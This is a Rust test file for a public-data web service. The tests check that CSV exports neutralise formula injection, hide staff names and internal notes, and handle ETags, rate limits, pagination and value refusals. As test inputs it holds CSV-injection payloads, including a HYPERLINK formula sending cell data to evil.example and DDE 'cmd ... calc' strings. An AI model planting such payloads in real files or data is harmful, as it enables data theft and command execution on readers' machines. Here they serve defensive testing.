//! What the public gets (issue 12): CSV files no spreadsheet reads as formulas, no staff names
//! or internal notes, public documents with ETags and 304, a rate limit per address, the value
//! list page by page with the visibility rule applied first, and clear refusals of implausible
//! values and of a quarter on the annual reporting page. On SQLite and PostgreSQL.

mod common;

use axum::http::{HeaderValue, Method};
use common::{ACCOUNTS, TestApp};
use ecociv_core::csv_cell::is_plain_number;
use ecociv_store::testing::TestDb;
use ecociv_store::{
    Actor, ImportOptions, Provenance, ValueFilter, WorkflowStatus, both_backends_owned,
};
use ecociv_web::WebConfig;
use serde_json::{Value, json};

const SEWAGE: &str = "urban_sewage_treatment_rate";
const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?d=\"&B2&C2,\"x\")";

fn url_encoded(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// Every cell of a CSV answer (the header too).
fn cells(text: &str) -> Vec<String> {
    let text = text.trim_start_matches('\u{feff}');
    let mut rd = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    rd.records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// The cells a spreadsheet program would read as a formula.
fn formulas(text: &str) -> Vec<String> {
    cells(text)
        .into_iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(c))
        .collect()
}

async fn publish(app: &TestApp, indicator: &str, periods: &[&str]) {
    let r = app
        .request(
            Some("coordinator"),
            Method::PUT,
            &format!("/api/v1/indicators/{indicator}/published"),
        )
        .json(&json!({"published": true}))
        .await;
    assert_eq!(r.status_code(), 204, "{}", r.text());
    for p in periods {
        let version = period_version(app, p).await;
        let r = app
            .request(
                Some("coordinator"),
                Method::PUT,
                &format!("/api/v1/periods/{p}/published"),
            )
            .json(&json!({"published": true, "version": version}))
            .await;
        assert_eq!(r.status_code(), 200, "{}", r.text());
    }
}

async fn period_version(app: &TestApp, period: &str) -> i64 {
    let periods: Vec<Value> = app.get(Some("coordinator"), "/api/v1/periods").await.json();
    periods
        .iter()
        .find(|p| p["id"] == period)
        .map_or(0, |p| p["version"].as_i64().unwrap())
}

async fn hostile_file_names_and_sources_never_reach_a_csv_cell_as_formulas(db: TestDb) {
    let store = db.store.clone();
    let app = TestApp::start(db).await;

    // Through the API: the name is cleaned where it enters, the source column kept as text.
    for (name, period) in [
        (HOSTILE, "2022"),
        ("@SUM(1+1)*cmd|'-C calc'!A0.csv", "2024"),
    ] {
        let csv = format!(
            "indicator,region,period,value,source\n{SEWAGE},411700,{period},95.5,\"=cmd|' /C calc'!A0\"\n"
        );
        let r = app
            .request(
                Some("reporter"),
                Method::POST,
                &format!(
                    "/api/v1/import/values?submit=true&file={}",
                    url_encoded(name)
                ),
            )
            .text(csv)
            .content_type("text/csv")
            .await;
        assert_eq!(r.status_code(), 200, "{}", r.text());
        let file = r.json::<Value>()["file"].as_str().unwrap().to_owned();
        assert!(!file.starts_with(['=', '+', '-', '@']), "{file}");
    }
    let v = app
        .all_values(
            Some("coordinator"),
            &format!("/api/v1/values?indicator={SEWAGE}&period=2024"),
        )
        .await
        .pop()
        .unwrap();
    let detail = v["provenance_detail"].as_str().unwrap();
    assert!(detail.starts_with("SUM(1+1)"), "{detail}");
    app.step("reviewer", &v, "approve", json!({})).await;

    // Behind the application's back: the store keeps whatever name it is given, so the CSV
    // writers alone must stop it.
    let opts = ImportOptions {
        submit: true,
        ..ImportOptions::unrestricted(Provenance::Import)
    };
    store
        .import_values_csv(
            &Actor::cli("loader"),
            HOSTILE,
            &format!("indicator,region,period,value\n{SEWAGE},411700,2023,94.5\n"),
            &opts,
        )
        .await
        .unwrap();
    let raw = store
        .values(&ValueFilter {
            period: Some("2023".into()),
            status: Some(WorkflowStatus::Submitted),
            ..ValueFilter::default()
        })
        .await
        .unwrap()
        .pop()
        .unwrap();
    assert!(raw.provenance_detail.starts_with('='));
    store
        .approve_value(&Actor::cli("checker"), raw.id, raw.version)
        .await
        .unwrap();
    publish(&app, SEWAGE, &["2022", "2023", "2024"]).await;

    let mut seen_hostile = false;
    for path in [
        "/public/data.csv",
        &format!("/public/data.csv?indicator={SEWAGE}"),
        "/open-data/2024/values.csv",
        "/open-data/2024/indicators.csv",
        "/open-data/2024/status.csv",
    ] {
        let r = app.get(None, path).await;
        assert_eq!(r.status_code(), 200, "{path}: {}", r.text());
        let text = r.text();
        assert!(formulas(&text).is_empty(), "{path}: {:?}", formulas(&text));
        seen_hostile |= cells(&text).iter().any(|c| c.starts_with("'=HYPERLINK"));
    }
    assert!(seen_hostile, "the source is kept, as text");
}

async fn anonymous_answers_name_no_staff_and_no_internal_notes(db: TestDb) {
    let app = TestApp::start(db).await;
    let v = app.draft("reporter", SEWAGE, "411700", "2024", "95").await;
    let r = app
        .post(
            Some("reporter"),
            "/api/v1/values",
            json!({"indicator": SEWAGE, "region": "411700", "period": "2024", "value": "95",
                   "comment": "内部备注：口径待统计局确认", "version": v["version"]}),
        )
        .await;
    assert_eq!(r.status_code(), 200, "{}", r.text());
    let v = app.step("reporter", &r.json(), "submit", json!({})).await;
    let v = app
        .step(
            "reviewer",
            &v,
            "return",
            json!({"reason": "内部退回：请补充台账"}),
        )
        .await;
    let v = app.step("reporter", &v, "submit", json!({})).await;
    let v = app.step("reviewer", &v, "approve", json!({})).await;
    let r = app
        .post(
            Some("coordinator"),
            "/api/v1/periods/2024/close",
            json!({"version": 0, "reason": "内部原因：等待市政府审定"}),
        )
        .await;
    assert_eq!(r.status_code(), 200, "{}", r.text());
    publish(&app, SEWAGE, &["2024"]).await;

    // Signed in, the names and notes are there (so the check below can fail).
    let internal = app
        .get(Some("viewer"), &format!("/api/v1/values/{}", v["id"]))
        .await
        .text();
    assert!(
        internal.contains("\"reporter\"") && internal.contains("内部备注"),
        "{internal}"
    );
    assert!(
        app.get(Some("viewer"), "/api/v1/periods")
            .await
            .text()
            .contains("内部原因")
    );

    let secrets = ["内部备注", "内部退回", "内部原因", "测试"];
    // The accounts that acted (ACCOUNTS has them all; "county" is also a word of the plan).
    let names: Vec<&str> = ACCOUNTS
        .iter()
        .map(|a| a.0)
        .filter(|n| ["reporter", "reviewer", "coordinator"].contains(n))
        .collect();
    let id = v["id"].as_i64().unwrap();
    let paths = [
        "/api/v1/values".to_owned(),
        format!("/api/v1/values/{id}"),
        "/api/v1/periods".into(),
        "/api/v1/evaluation/2024".into(),
        "/api/v1/indicators".into(),
        "/api/v1/plan".into(),
        "/api/v1/plan/findings".into(),
        "/api/v1/tasks".into(),
        "/open-data".into(),
        "/open-data/2024/data.json".into(),
        "/open-data/2024/datapackage.json".into(),
        "/open-data/2024/values.csv".into(),
        "/open-data/2024/indicators.csv".into(),
        "/open-data/2024/status.csv".into(),
        "/public".into(),
        format!("/public/indicators/{SEWAGE}"),
        "/public/data.csv".into(),
    ];
    let mut problems = Vec::new();
    for path in &paths {
        let r = app.get(None, path).await;
        assert_eq!(r.status_code(), 200, "{path}: {}", r.text());
        let text = r.text();
        for s in secrets {
            if text.contains(s) {
                problems.push(format!("{path} holds “{s}”"));
            }
        }
        if let Ok(json) = serde_json::from_str::<Value>(&text) {
            let mut strings = Vec::new();
            walk(&json, &mut strings);
            for s in strings.iter().filter(|s| names.contains(&s.as_str())) {
                problems.push(format!("{path} names “{s}”"));
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    let public: Value = app.get(None, &format!("/api/v1/values/{id}")).await.json();
    assert_eq!(public["value"]["created_by"], "");
    assert_eq!(public["value"]["updated_by"], "");
    let periods: Vec<Value> = app.get(None, "/api/v1/periods").await.json();
    assert!(
        periods
            .iter()
            .all(|p| p["updated_by"].is_null() && p["reason"] == "")
    );
}

fn walk(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
        Value::Object(m) => m.values().for_each(|x| walk(x, out)),
        _ => {}
    }
}

async fn public_documents_answer_304_until_a_write_changes_their_etag(db: TestDb) {
    db.store.load_demo().await.unwrap();
    let app = TestApp::start(db).await;
    for path in [
        "/open-data/2024/values.csv",
        "/public/data.csv",
        "/public",
        "/api/v1/evaluation/2024",
    ] {
        let first = app.get(None, path).await;
        assert_eq!(first.status_code(), 200, "{path}");
        let etag = first.header("etag");
        let again = app.get(None, path).await;
        assert_eq!(again.header("etag"), etag, "{path}");
        assert_eq!(
            again.as_bytes(),
            first.as_bytes(),
            "{path}: the kept copy is the same"
        );
        let not_modified = app
            .get(None, path)
            .add_header("if-none-match", etag.clone())
            .await;
        assert_eq!(not_modified.status_code(), 304, "{path}");
        assert!(not_modified.as_bytes().is_empty());
        assert_eq!(not_modified.header("etag"), etag);
        // Another language is another representation.
        let en = app.get(None, &format!("{path}?lang=en")).await;
        assert_eq!(en.status_code(), 200, "{path}");
        assert_ne!(en.maybe_header("etag"), Some(etag.clone()), "{path}");
    }

    let before = app.get(None, "/open-data/2024/values.csv").await;
    let etag = before.header("etag");
    let r = app
        .request(
            Some("coordinator"),
            Method::PUT,
            "/api/v1/indicators/forest_coverage/published",
        )
        .json(&json!({"published": false}))
        .await;
    assert_eq!(r.status_code(), 204, "{}", r.text());
    let after = app
        .get(None, "/open-data/2024/values.csv")
        .add_header("if-none-match", etag.clone())
        .await;
    assert_eq!(after.status_code(), 200, "a write changes the ETag");
    assert_ne!(after.header("etag"), etag);
    assert_ne!(after.as_bytes(), before.as_bytes(), "and the document");
    assert!(!after.text().contains("\nforest_coverage,"));
    assert!(before.text().contains("\nforest_coverage,"));

    // Signed-in readers are not served from the public cache.
    let r = app.get(Some("viewer"), "/open-data/2024/values.csv").await;
    assert_eq!(r.status_code(), 200);
    assert!(r.maybe_header("etag").is_none());
}

async fn an_anonymous_burst_over_the_limit_gets_429_with_retry_after(db: TestDb) {
    let app = TestApp::start_with(
        db,
        WebConfig {
            login_burst: 1000,
            public_burst: 5,
            public_per_minute: 1,
            ..WebConfig::default()
        },
    )
    .await;
    for i in 0..5 {
        let r = app.get(None, "/api/v1/tasks").await;
        assert_eq!(r.status_code(), 200, "request {i}");
    }
    let r = app.get(None, "/api/v1/tasks").await;
    assert_eq!(r.status_code(), 429, "{}", r.text());
    let wait: u64 = r.header("retry-after").to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    let body: Value = r.json();
    assert_eq!(body["code"], "rate_limited");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains(&format!("请 {wait} 秒后再试")),
        "{body}"
    );
    // In English, and as a page for browsers, still with Retry-After.
    let r = app.get(None, "/api/v1/tasks?lang=en").await;
    assert_eq!(r.status_code(), 429);
    assert!(r.text().contains("Too many requests"), "{}", r.text());
    assert!(r.maybe_header("retry-after").is_some());
    let r = app
        .get(None, "/public")
        .add_header("accept", HeaderValue::from_static("text/html"))
        .await;
    assert_eq!(r.status_code(), 429);
    assert!(r.text().contains("<html"), "an error page");
    assert!(r.maybe_header("retry-after").is_some());
    // Signed-in users and the assets are not limited; logging in has its own limit.
    assert_eq!(
        app.get(Some("viewer"), "/api/v1/tasks").await.status_code(),
        200
    );
    assert_ne!(app.get(None, "/assets/app.css").await.status_code(), 429);
    assert!(app.login("viewer", common::PASSWORD).await.is_ok());
}

async fn the_value_list_pages_through_everything_filtering_before_the_limit(db: TestDb) {
    db.store.load_demo().await.unwrap();
    let store = db.store.clone();
    let app = TestApp::start(db).await;
    let everything: Vec<i64> = store
        .values(&ValueFilter::default())
        .await
        .unwrap()
        .iter()
        .map(|v| v.id)
        .collect();
    assert!(everything.len() > 1000, "{}", everything.len());

    // The coordinator sees every value: pages of 700 hold them all, in list order, once.
    let paged = app
        .all_values(Some("coordinator"), "/api/v1/values?limit=700")
        .await;
    let ids: Vec<i64> = paged.iter().map(|v| v["id"].as_i64().unwrap()).collect();
    assert_eq!(ids, everything);
    let first: Value = app
        .get(Some("coordinator"), "/api/v1/values?limit=700")
        .await
        .json();
    assert_eq!(first["limit"], 700);
    assert_eq!(first["values"].as_array().unwrap().len(), 700);
    assert!(first["next_cursor"].is_string());
    let default: Value = app.get(Some("coordinator"), "/api/v1/values").await.json();
    assert_eq!(default["limit"], 1000);

    // The public: the first indicators in list order withdrawn, so the rows the store reads
    // first are not public. Every page but the last is full.
    let codes: Vec<String> = store
        .values(&ValueFilter::default())
        .await
        .unwrap()
        .into_iter()
        .map(|v| v.indicator)
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .take(3)
        .collect();
    for code in &codes {
        store
            .set_indicator_published(&Actor::cli("coordinator"), code, false)
            .await
            .unwrap();
    }
    let one_page = app.all_values(None, "/api/v1/values?limit=10000").await;
    assert!(!one_page.is_empty());
    let mut cursor: Option<String> = None;
    let mut pages = Vec::new();
    loop {
        let url = match &cursor {
            Some(c) => format!("/api/v1/values?limit=50&cursor={c}"),
            None => "/api/v1/values?limit=50".into(),
        };
        let page: Value = app.get(None, &url).await.json();
        let n = page["values"].as_array().unwrap().len();
        pages.push(page["values"].as_array().unwrap().clone());
        match page["next_cursor"].as_str() {
            Some(c) => {
                assert_eq!(n, 50, "a page before the last is full");
                cursor = Some(c.to_owned());
            }
            None => break,
        }
    }
    let all: Vec<Value> = pages.into_iter().flatten().collect();
    assert_eq!(all, one_page);

    // The public CSV streams in chunks and holds the same values, once each, in the same order.
    let csv = app.get(None, "/public/data.csv").await;
    assert_eq!(csv.status_code(), 200);
    let text = csv.text();
    let lines: Vec<&str> = text.lines().skip(1).collect();
    let keys: Vec<String> = lines
        .iter()
        .map(|l| {
            let f: Vec<&str> = l.split(',').collect();
            format!("{} {} {}", f[0], f[2], f[4])
        })
        .collect();
    let expected: Vec<String> = one_page
        .iter()
        .map(|v| {
            format!(
                "{} {} {}",
                v["indicator"].as_str().unwrap(),
                v["region"].as_str().unwrap(),
                v["period"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(keys, expected);
    assert!(
        keys.len() > 1000,
        "more than one chunk of 1,000: {}",
        keys.len()
    );
    assert!(
        all.iter()
            .all(|v| !codes.contains(&v["indicator"].as_str().unwrap().to_owned()))
    );

    // Out of range and unknown cursors are refused, naming the parameter.
    for (q, field) in [
        ("limit=0", "limit"),
        ("limit=10001", "limit"),
        ("cursor=abc", "cursor"),
    ] {
        let r = app.get(None, &format!("/api/v1/values?{q}")).await;
        assert_eq!(r.status_code(), 422, "{q}: {}", r.text());
        let body: Value = r.json();
        assert_eq!(body["details"]["field"], field, "{body}");
        assert!(body["message"].as_str().unwrap().contains(field), "{body}");
    }
    // The OpenAPI document says how to page.
    let doc = serde_json::to_string(&ecociv_web::openapi()).unwrap();
    assert!(doc.contains("next_cursor") && doc.contains("ValuePage"));
}

async fn implausible_values_and_a_quarter_on_the_reporting_page_are_refused_clearly(db: TestDb) {
    let app = TestApp::start(db).await;
    let r = app
        .post(
            Some("reporter"),
            "/api/v1/values",
            json!({"indicator": SEWAGE, "region": "411700", "period": "2024", "value": "1e20"}),
        )
        .await;
    assert_eq!(r.status_code(), 422, "{}", r.text());
    let m = r.json::<Value>()["message"].as_str().unwrap().to_owned();
    assert!(m.contains("城镇生活污水") || m.contains("污水"), "{m}");
    assert!(m.contains("100000000000000000000"), "{m}");
    assert!(m.contains("最大值100%"), "{m}");
    assert!(!m.contains("92233720368547758"), "{m}");
    let r = app
        .request(Some("reporter"), Method::POST, "/api/v1/import/values")
        .text(format!(
            "indicator,region,period,value\n{SEWAGE},411700,2024,1e20\n"
        ))
        .content_type("text/csv")
        .await;
    assert_eq!(r.status_code(), 422, "{}", r.text());
    assert!(r.text().contains("最大值100%"), "{}", r.text());

    for (lang, words) in [("", "填报按年度进行"), ("&lang=en", "Reporting is annual")] {
        let r = app
            .get(Some("reporter"), &format!("/report?period=2026Q1{lang}"))
            .add_header("accept", HeaderValue::from_static("text/html"))
            .await;
        assert_eq!(r.status_code(), 422);
        let text = r.text();
        assert!(text.contains(words) && text.contains("2026Q1"), "{text}");
    }
    let r = app
        .get(Some("reporter"), "/report?period=2026-03")
        .add_header("accept", HeaderValue::from_static("text/html"))
        .await;
    assert_eq!(r.status_code(), 422);
    assert_eq!(
        app.get(Some("reporter"), "/report?period=2024")
            .await
            .status_code(),
        200
    );
}

both_backends_owned! {
    csv_injection => hostile_file_names_and_sources_never_reach_a_csv_cell_as_formulas;
    no_staff_names => anonymous_answers_name_no_staff_and_no_internal_notes;
    etags => public_documents_answer_304_until_a_write_changes_their_etag;
    rate_limit => an_anonymous_burst_over_the_limit_gets_429_with_retry_after;
    pagination => the_value_list_pages_through_everything_filtering_before_the_limit;
    refusals => implausible_values_and_a_quarter_on_the_reporting_page_are_refused_clearly;
}
